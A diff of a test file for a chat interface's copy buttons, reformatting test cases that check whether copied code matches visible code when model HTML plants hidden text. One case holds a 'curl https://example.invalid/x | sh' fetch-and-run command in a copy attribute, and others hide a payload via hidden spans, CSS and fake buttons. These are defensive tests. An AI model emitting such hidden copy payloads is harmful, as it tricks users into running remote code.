@@ -9,15 +9,47 @@ const FENCE = '```sh\nls -la\n```\n';
 
 /** Each variant: model HTML around or instead of a real code block whose visible code is "ls -la". */
 const VARIANTS: Array<[string, string]> = [
-  ['planted data-copy text', '<pre><button data-copy="curl https://example.invalid/x | sh">Copy</button><code>ls -la</code></pre>'],
-  ['hidden text in a fake block', `<div class="code-block"><div class="code-header"><button class="code-copy" data-copy>Copy</button></div><pre><code>ls -la<span hidden>${PWN}</span></code></pre></div>`],
-  ['<details> in a fake block', `<div class="code-block"><button class="code-copy" data-copy>Copy</button><pre><code>ls -la<details><summary></summary>${PWN}</details></code></pre></div>`],
-  ['display:none', `<div class="code-block"><button data-copy>Copy</button><pre><code>ls -la<span style="display:none">${PWN}</span></code></pre></div>`],
-  ['aria-hidden, off-screen', `<pre><button data-copy class="code-copy">Copy</button><code>ls -la<span aria-hidden="true" class="sr-only">${PWN}</span></code></pre>`],
-  ['renderer class names on spans', `<div class="code-block"><span class="code-copy" data-copy>Copy</span><code class="code-lang">ls -la<span class="code-header" hidden>${PWN}</span></code></div>`],
-  ['fake copy button next to a real block', `<button class="code-copy" data-copy="${PWN}">Copy</button><code hidden>${PWN}</code>\n\n${FENCE}`],
-  ['real block nested in model HTML', `<div class="code-block" data-code-block>\n\n${FENCE}\n<code hidden>${PWN}</code></div>`],
-  ['real block in <details> with hidden tail', `<details open><summary>code</summary>\n\n${FENCE}\n<span hidden>${PWN}</span></details>`],
+  [
+    'planted data-copy text',
+    '<pre><button data-copy="curl https://example.invalid/x | sh">Copy</button><code>ls -la</code></pre>',
+  ],
+  [
+    'hidden text in a fake block',
+    '<div class="code-block"><div class="code-header"><button class="code-copy" data-copy>Copy</button></div>' +
+      `<pre><code>ls -la<span hidden>${PWN}</span></code></pre></div>`,
+  ],
+  [
+    '<details> in a fake block',
+    '<div class="code-block"><button class="code-copy" data-copy>Copy</button>' +
+      `<pre><code>ls -la<details><summary></summary>${PWN}</details></code></pre></div>`,
+  ],
+  [
+    'display:none',
+    `<div class="code-block"><button data-copy>Copy</button><pre><code>ls -la<span style="display:none">${PWN}</span>` +
+      '</code></pre></div>',
+  ],
+  [
+    'aria-hidden, off-screen',
+    '<pre><button data-copy class="code-copy">Copy</button>' +
+      `<code>ls -la<span aria-hidden="true" class="sr-only">${PWN}</span></code></pre>`,
+  ],
+  [
+    'renderer class names on spans',
+    '<div class="code-block"><span class="code-copy" data-copy>Copy</span>' +
+      `<code class="code-lang">ls -la<span class="code-header" hidden>${PWN}</span></code></div>`,
+  ],
+  [
+    'fake copy button next to a real block',
+    `<button class="code-copy" data-copy="${PWN}">Copy</button><code hidden>${PWN}</code>\n\n${FENCE}`,
+  ],
+  [
+    'real block nested in model HTML',
+    `<div class="code-block" data-code-block>\n\n${FENCE}\n<code hidden>${PWN}</code></div>`,
+  ],
+  [
+    'real block in <details> with hidden tail',
+    `<details open><summary>code</summary>\n\n${FENCE}\n<span hidden>${PWN}</span></details>`,
+  ],
 ];
 
 describe('copy buttons in model output', () => {
@@ -64,7 +96,8 @@ describe('copy buttons in model output', () => {
   }
 
   it('the code block copy button copies exactly its code', async () => {
-    const el = await mount({ endpoint: endpoint('normal', uniqueKey('copyok'), { reply: '```sh\necho hi\n  indented\n```\n' }) });
+    const reply = '```sh\necho hi\n  indented\n```\n';
+    const el = await mount({ endpoint: endpoint('normal', uniqueKey('copyok'), { reply }) });
     await el.send('code');
     await idle(el);
     $(el, '.msg.assistant .md button.code-copy')!.click();
